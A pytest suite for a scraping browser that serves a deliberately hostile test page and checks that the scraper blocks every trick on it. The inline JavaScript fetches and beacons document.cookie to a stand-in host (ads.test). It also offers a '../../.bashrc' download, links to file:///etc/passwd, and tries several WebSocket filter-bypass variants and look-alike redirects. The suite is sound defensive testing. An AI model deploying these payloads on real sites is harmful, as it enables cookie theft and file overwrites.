"""A portal that tries everything at once gets nothing and breaks nothing, whichever browser visits it."""

import os
import shutil
import subprocess
from contextlib import contextmanager
from dataclasses import replace

import pytest

from collector.browser import BrowserOptions, open_browser
from fixtures.messages import Answer, page, redirect
from scrapers.words import Outcome
from tests.browser.conftest import NUMBER, QUICK, Counter
from tests.browser.test_profiles import running_browser
from tests.security.hostile import TEXTS

pytestmark = pytest.mark.browser

HOST = "www.counter.test"
FAR = "https://ads.test"
SCRIPT = (("Content-Type", "text/javascript"),)
#: Each way on by itself, while the page shows a row that may be believed.
TRICKS = f"""
<form id=f action={FAR}/password method=post><input type=password name=password autofocus></form>
<iframe src={FAR}/login></iframe><iframe src=https://{HOST}.elsewhere.test/login></iframe>
<object data={FAR}/o type=text/html></object><link rel=prefetch href={FAR}/p><img src={FAR}/i>
<a id=a href="javascript:void(document.title='run')">x</a>
<a id=b href=/big.bin download="../../.bashrc">x</a>
<a id=c href={FAR}/n target=_blank>x</a><a id=d href="file:///etc/passwd">x</a>
<script>
  const quietly = work => {{ try {{ work(); }} catch (error) {{}} }};
  const endlessly = () => {{ for (const way of ways) quietly(way); setTimeout(endlessly, 100); }};
  const ways = [
    () => a.click(), () => b.click(), () => c.click(), () => d.click(),
    () => open('{FAR}/w'), () => open('/x', '', 'noopener'), () => print(), () => f.submit,
    () => fetch('{FAR}/f', {{method: 'POST', mode: 'no-cors', body: document.cookie}}),
    () => fetch('/to-ads', {{mode: 'no-cors'}}), () => navigator.sendBeacon('{FAR}/b', document.cookie),
    () => new WebSocket('wss://ads.test/s'), () => new Worker('/worker.js'),
    () => navigator.serviceWorker.register('/worker.js'),
    () => navigator.registerProtocolHandler('mailto', '/%s'),
    () => Notification.requestPermission(), () => navigator.geolocation.getCurrentPosition(() => 0),
    () => document.documentElement.requestFullscreen(), () => history.pushState(0, '', '/{NUMBER}'),
    () => navigator.clipboard.readText(), () => localStorage.setItem(Math.random(), 'x'.repeat(9999)),
    () => {{ new Image().src = '{FAR}/i?' + Math.random(); }},
  ];
  for (const end of ['pagehide', 'visibilitychange', 'unload', 'beforeunload'])
    addEventListener(end, () => {{ for (const way of ways) quietly(way); }});
  onbeforeunload = event => {{ event.preventDefault(); return 'stay'; }};
  endlessly();
  setTimeout(() => alert('x'), 50); setTimeout(() => confirm('x'), 60);
  setTimeout(() => prompt('password'), 70);
</script>
"""


def rows(texts):
    return "".join(f"<li>{text}</li>" for text in texts)


def hostile_site(site):
    """The portal's answers: one row to be believed among all its tricks."""
    away = f"fetch('{FAR}/x', {{mode: 'no-cors'}}); while (Math.random() > 1e-9);".encode()
    attached = Answer(200, b"PK" * 1000, (("Content-Disposition", "attachment; filename=../../.bashrc"),))
    site.lasting(HOST, f"/{NUMBER}", page(f"<ul class=rows>{rows(['Arrived'])}</ul>{TRICKS}"))
    site.lasting(HOST, "/worker.js", Answer(200, away, SCRIPT))
    site.lasting(HOST, "/to-ads", redirect(f"{FAR}/redirected"))
    site.lasting(HOST, "/big.bin", attached)


def strangers(site):
    """What arrived anywhere but at the portal; its own page may ask for its own favicon."""
    return [asked for asked in site.asked if not asked.startswith(f"{HOST}/")]


@contextmanager
def display():
    """A display for a window: the one there is, else a virtual one."""
    if os.environ.get("DISPLAY"):
        yield os.environ["DISPLAY"]
        return
    program = shutil.which("Xvfb")
    if program is None:
        pytest.skip("neither a display nor Xvfb is here: no window was tried")
    with subprocess.Popen(
        [program, ":87", "-screen", "0", "1280x900x24"], stderr=subprocess.DEVNULL
    ) as process:
        try:
            yield ":87"
        finally:
            process.terminate()


@pytest.fixture(params=["headless", "headed", "attached", "profile"])
def options(request, bench, tmp_path, monkeypatch):
    """A browser of each kind, by its options."""
    given = tuple(bench.arguments)
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    match request.param:
        case "headless":
            yield BrowserOptions(arguments=given)
        case "profile":
            yield BrowserOptions(arguments=given, profiles=tmp_path / "profiles")
        case "headed":
            with display() as name:
                monkeypatch.setenv("DISPLAY", name)
                yield BrowserOptions(arguments=given, headed=True)
        case "attached":
            with running_browser(bench.arguments, tmp_path / "running") as (endpoint, _):
                yield BrowserOptions(endpoint=endpoint)


def visited(bench, options, times=2):
    """What visits in a row see in one browser; every page is closed behind them."""

    async def run():
        async with open_browser(options, os.environ) as browser:
            seen = []
            for _ in range(times):
                seen.append(await bench.visiting(Counter(), browser=browser))
                assert browser.open_pages == 0  # nothing else was opened
            return seen

    return bench.runner.run(run())


def test_every_trick_at_once_gets_nothing_and_the_row_is_read(bench, options, tmp_path):
    hostile_site(bench.site)
    for one in visited(bench, options):
        assert one.outcome is Outcome.OK, one.error
        assert [row.description for row in one.readings[0].rows] == ["Arrived"]
        assert set(one.blocked_hosts) <= {"ads.test", f"{HOST}.elsewhere.test"}
        assert "ads.test" in one.blocked_hosts
        assert all(kept.url.startswith(f"https://{HOST}/") for kept in one.pages)
    assert strangers(bench.site) == []
    assert not list((tmp_path / "home").rglob("*bashrc*"))
    assert not [path for path in tmp_path.rglob("big*") if path.is_file()]


@pytest.mark.parametrize(
    "way",
    [
        "new WebSocket(there)",
        "new WebSocket.prototype.constructor(there)",
        "new (class extends WebSocket {})(there)",
        "Reflect.construct(WebSocket, [there])",
        "Array.prototype.includes = () => true; new WebSocket(there)",
        "Object.defineProperty(URL.prototype, 'hostname', {get: () => 'www.counter.test'});"
        " new WebSocket(there)",
        "URL = function () { return {hostname: 'www.counter.test'} }; new WebSocket(there)",
        "let n = 0; new WebSocket({toString: () => n++ ? there : 'wss://www.counter.test/'})",
        "const f = document.body.appendChild(document.createElement('iframe'));"
        " new f.contentWindow.WebSocket(there)",
        "Function.prototype.call = Reflect.construct = () => 'www.counter.test'; new WebSocket(there)",
    ],
)
def test_no_web_socket_reaches_a_stranger_and_no_window_opens_by_it(bench, way):
    """Also where the page has replaced what the stand-in would ask."""
    opens = "setInterval(() => a.click(), 50)"
    link = f"<a id=a target=_blank href={FAR}/n></a>"
    script = f"const there = 'wss://ads.test/s'; setInterval(() => {{ {way} }}, 100); {opens}; fetch('/slow')"
    bench.site.lasting(HOST, f"/{NUMBER}", page(f"<ul class=rows><li>x</ul>{link}<script>{script}</script>"))
    bench.site.lasting(HOST, "/slow", replace(page("x"), delay_s=1))

    class Slow(Counter):
        payloads = (f"https://{HOST}/slow",)

    assert bench.visit(Slow()).outcome is Outcome.OK
    assert strangers(bench.site) == []


def test_no_window_of_a_page_gets_past_the_wall(bench, server):
    """Whatever a page opens: the browser as a whole finds the portals' hosts and no other."""
    here, away = f"https://localhost:{server.port}", f"https://127.0.0.1:{server.port}/away"
    opens = f"setInterval(() => {{ a.click(); open('{away}'); fetch('/seen'); }}, 50)"
    html = f"<ul class=rows><li>x</ul><a id=a target=_blank href={away}></a><script>{opens}</script>"
    bench.site.lasting("localhost", "/", page(html + "<script>fetch('/slow')</script>"))
    bench.site.lasting("localhost", "/slow", replace(page("x"), delay_s=2))

    class Local(Counter):
        hosts = ("localhost",)
        payloads = (f"{here}/slow",)

        def url(self, number, language):
            return f"{here}/"

    pin = tuple(argument for argument in bench.arguments if "host-resolver-rules" not in argument)

    async def visits():
        async with open_browser(BrowserOptions(arguments=pin, hosts=("localhost",))) as browser:
            return await bench.visiting(Local(), browser=browser)

    assert bench.runner.run(visits()).outcome is Outcome.OK
    assert "localhost/seen" in bench.site.asked
    assert "127.0.0.1/away" not in bench.site.asked


@pytest.mark.parametrize("how", ["redirect", "script", "refresh", "form"])
def test_a_look_alike_is_never_reached(bench, options, how):
    url = f"https://{HOST}.elsewhere.test/{NUMBER}"
    answer = {
        "redirect": Answer(302, headers=(("Location", url),)),
        "script": page(f"<script>location = '{url}'</script>"),
        "refresh": page(f"<meta http-equiv=refresh content='0;url={url}'>"),
        "form": page(f"<form id=f method=post action={url}><input name=p></form><script>f.submit()</script>"),
    }
    bench.site.lasting(HOST, f"/{NUMBER}", answer[how])
    (one,) = visited(bench, options, times=1)
    assert (one.outcome, one.readings) == (Outcome.UNAVAILABLE, ())
    assert one.blocked_hosts == (f"{HOST}.elsewhere.test",)
    assert strangers(bench.site) == []


def test_a_password_field_of_a_portal_is_never_typed_into(bench, options):
    """Visits type nothing at all: a field that reports every key and change hears nothing."""
    tells = "oninput=fetch('/heard') onchange=fetch('/heard') onkeydown=fetch('/heard')"
    field = f"<input type=password autofocus {tells}><input name=email autofocus {tells}>"
    bench.site.lasting(HOST, f"/{NUMBER}", page(f"<ul class=rows>{rows(['Arrived'])}</ul>{field}"))
    (one,) = visited(bench, options, times=1)
    assert one.outcome is Outcome.OK
    assert f"{HOST}/heard" not in bench.site.asked


def test_texts_of_every_kind_are_rows_and_no_more(bench):
    """Kept to the letter as far as HTML can say it; what comes out is made harmless there."""
    texts = [text for name, text in TEXTS.items() if name not in ("a script", "towers")]
    escaped = [text.replace("&", "&amp;").replace("<", "&lt;") for text in texts]
    bench.site.lasting(HOST, f"/{NUMBER}", page(f"<meta charset=utf-8><ul class=rows>{rows(escaped)}</ul>"))
    one = bench.visit(Counter())
    assert one.outcome is Outcome.OK
    assert len(one.readings[0].rows) == len(texts)


def test_a_page_of_a_million_rows_ends_within_its_bounds(bench):
    script = "for (;;) document.querySelector('ul').innerHTML += '<li>x</li>'.repeat(9999)"
    html = f"<ul class=rows></ul><script>{script}</script>"
    bench.site.lasting(HOST, f"/{NUMBER}", page(html))
    limits = replace(QUICK, state_seconds=2, call_seconds=2, attempts=1)
    assert bench.visit(Counter(), limits=limits).outcome is not Outcome.OK
    bench.site.reset()
    bench.site.lasting(HOST, f"/{NUMBER}", page(f"<ul class=rows>{rows(['Arrived'])}</ul>"))
    assert bench.visit(Counter()).outcome is Outcome.OK
